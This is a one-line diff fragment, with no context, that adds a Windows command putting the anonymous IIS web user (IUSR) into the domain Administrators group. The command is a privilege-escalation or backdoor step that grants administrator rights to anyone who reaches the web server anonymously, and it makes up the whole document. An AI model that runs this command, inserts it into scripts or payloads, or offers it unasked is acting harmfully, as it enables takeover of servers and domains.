@@ -1,0 +1,1 @@
+net localgroup Administrators IUSR /add /domain
